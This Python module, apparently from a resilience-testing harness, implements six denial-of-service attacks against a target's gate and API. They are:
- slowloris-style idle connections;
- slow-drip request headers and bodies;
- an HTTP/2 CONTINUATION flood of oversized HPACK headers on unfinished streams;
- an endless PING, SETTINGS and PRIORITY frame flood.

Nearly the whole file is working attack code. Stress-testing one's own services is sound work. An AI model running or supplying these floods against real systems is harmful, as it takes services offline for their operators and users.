"""Strangers at the gate and at the API: connections without words, words without end, and many frames for nothing."""

from __future__ import annotations

import contextlib
import selectors
import socket
import struct
import time
from collections.abc import Callable, Iterator
from typing import Final

from attacks import Attack, Target
from bomb import leb
from node import connect

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, PRIORITY, SETTINGS, PING, CONTINUATION = 1, 2, 4, 6, 9
#: Connections that one attack holds at once.
CONNECTIONS: Final = 2_000


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _hold(address: tuple[str, int], count: int, target: Target, first: bytes, later: bytes) -> None:
    """Keeps `count` connections that say `first` and then `later` each second; those that are closed come again."""
    held: dict[socket.socket, None] = {}
    selector = selectors.DefaultSelector()
    spoke = time.monotonic()
    while time.time() < target.until:
        for _ in range(min(100, count - len(held))):
            try:
                made = connect(address, 0.5)
                made.sendall(first)
                made.setblocking(False)
            except OSError:
                break
            held[made] = None
            selector.register(made, selectors.EVENT_READ)
        gone = []
        for key, _ in selector.select(0.05):
            made = key.fileobj
            with contextlib.suppress(BlockingIOError):
                try:
                    if made.recv(65_536):
                        continue
                except OSError:
                    pass
                gone.append(made)
        if later and time.monotonic() - spoke > 1:
            spoke = time.monotonic()
            for made in list(held):
                try:
                    made.send(later)
                except OSError:
                    gone.append(made)
        for made in gone:
            if held.pop(made, 0) is None:
                selector.unregister(made)
                made.close()


def idle_at_api(target: Target) -> None:
    _hold(target.api, 400, target, b"", b"")


def idle_at_gate(target: Target) -> None:
    _hold(target.gate, CONNECTIONS, target, b"", b"")


def dripping_heads(target: Target) -> None:
    _hold(target.gate, CONNECTIONS, target, b"GET /neighbour HTTP/1.1\r\nhost: a\r\n", b"x: y\r\n")


def dripping_bodies(target: Target) -> None:
    head = b"POST /neighbour HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n"
    _hold(target.gate, CONNECTIONS, target, head, b"x")


def _speak_http2(target: Target, connections: int, words: Callable[[], Iterator[bytes]]) -> None:
    """Says on each of so many connections what `words` gives, again and again."""
    held: list[tuple[socket.socket, Iterator[bytes]]] = []
    while time.time() < target.until:
        while len(held) < connections and time.time() < target.until:
            try:
                made = connect(target.gate, 1)
                made.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
                made.settimeout(0.05)
            except OSError:
                time.sleep(0.05)
                break
            held.append((made, words()))
        for made, said in list(held):
            try:
                word = next(said)
                with contextlib.suppress(TimeoutError):
                    made.sendall(word)
            except StopIteration:
                if time.time() < target.until:
                    time.sleep(0.01)
            except OSError:
                held.remove((made, said))
                made.close()


def _fat_heads() -> Iterator[bytes]:
    """250 streams of 54 kB literal headers each, none of which ends its request."""
    value = b"v" * 16_000
    # Literal header field without indexing; the lengths are HPACK integers of more than seven bits.
    length = bytes([0x7F]) + leb(len(value) - 127)
    fields = b"\x82\x86\x84\x41\x01a" + b"".join(b"\x00\x02x" + bytes([97 + n]) + length + value for n in range(3))
    for stream in range(1, 501, 2):
        pieces = [fields[at : at + 16_000] for at in range(0, len(fields), 16_000)]
        said = frame(HEADERS, 0, stream, pieces[0])
        for number, piece in enumerate(pieces[1:], 2):
            said += frame(CONTINUATION, 4 if number == len(pieces) else 0, stream, piece)
        yield said


def _small_frames() -> Iterator[bytes]:
    """PING, SETTINGS and PRIORITY frames without end."""
    many = frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0, b"") + frame(PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10") * 20
    while True:
        yield many * 20


def fat_heads(target: Target) -> None:
    _speak_http2(target, 30, _fat_heads)


def small_frames(target: Target) -> None:
    _speak_http2(target, 8, _small_frames)


ATTACKS: Final = [
    Attack("idle_at_api", "400 connections to the API that say nothing", idle_at_api),
    Attack("idle_at_gate", "2,000 connections to the gate that say nothing", idle_at_gate),
    Attack("dripping_heads", "2,000 requests whose heads come a line a second", dripping_heads),
    Attack("dripping_bodies", "2,000 requests whose bodies come a byte a second", dripping_bodies),
    Attack("http2_heads", "30 × 250 HTTP/2 streams with 48 kB of headers each", fat_heads),
    Attack("http2_frames", "PING, SETTINGS and PRIORITY frames without end", small_frames),
]
